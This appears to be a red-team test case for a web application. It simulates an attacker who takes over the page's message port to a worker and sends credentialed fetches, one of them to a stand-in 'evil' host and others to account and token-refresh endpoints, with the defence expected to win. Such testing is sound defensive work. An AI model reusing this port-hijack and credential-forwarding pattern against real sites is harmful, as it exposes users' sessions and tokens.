// A real attacker: takes the page's end of the channel as it is made, and talks to the worker in the application's
// place.
export default {
  row: "messages",
  expected: ["loses", "loses"],
  before: (redteam) => redteam.takePorts(redteam.loot),
  after: async ({ api, evil, home }, redteam) => {
    const [port] = redteam.ports;
    const init = { method: "GET", credentials: "include", mode: "cors", redirect: "follow" };
    let id = 9000;
    for (const url of [`${api}/v1/me`, `${evil}/v1/me`, `${home}/auth/refresh`, `${api}/echo-headers`]) {
      port.postMessage([0, ++id, url, [], init, true]);
    }
    const mine = () => redteam.replies.filter(([, id]) => id > 9000).map(([kind, id]) => [kind, id]);
    await redteam.until(() => mine().length >= 4);
    return mine();
  },
  reached: ({ brought }) => brought.length >= 4,
};
